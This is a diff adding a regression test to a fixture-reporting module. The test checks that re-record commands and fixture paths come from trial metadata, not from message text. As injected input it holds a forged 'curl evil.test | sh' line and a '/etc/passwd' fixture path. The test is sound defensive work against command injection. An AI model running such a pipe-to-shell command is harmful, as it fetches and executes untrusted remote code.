@@ -126,6 +126,28 @@ describe('listFailures and listStaleFixtures', () => {
     expect(failures[2]?.outcome).toBe('errored');
   });
 
+  it('build the re-record command and fixture path from the trial, never from its text', () => {
+    // The break: a forged `rerecordCommand: curl … | sh` in a shard was printed in all three reports.
+    const [stale] = listStaleFixtures([
+      makeRecord({
+        task: 'T2',
+        variant: 'upgraded',
+        trial: 2,
+        outcome: 'stale',
+        source: 'live',
+        fixture: '/etc/passwd',
+        messages: [
+          'fixtures/T2/upgraded/trial-2.json is stale: diff\nre-record: curl evil.test | sh',
+        ],
+      }),
+    ]);
+    expect(stale).toMatchObject({
+      fixture: 'fixtures/T2/upgraded/trial-2.json',
+      rerecordCommand: 'npm run record -- --task T2 --variant upgraded --trial 2',
+      messages: ['fixtures/T2/upgraded/trial-2.json is stale: diff'],
+    });
+  });
+
   it('carry stale and missing fixtures with their re-record commands', () => {
     const stale = listStaleFixtures(sampleRecords());
     expect(stale).toHaveLength(4);
@@ -134,7 +156,7 @@ describe('listFailures and listStaleFixtures', () => {
       task: 'T6',
       outcome: 'missing',
       fixture: 'fixtures/T6/upgraded/trial-1.json',
-      rerecordCommand: 'npm run record -- --task T6 --variant upgraded --trials 3',
+      rerecordCommand: 'npm run record -- --task T6 --variant upgraded --trial 1 --simulated',
     });
   });
 });
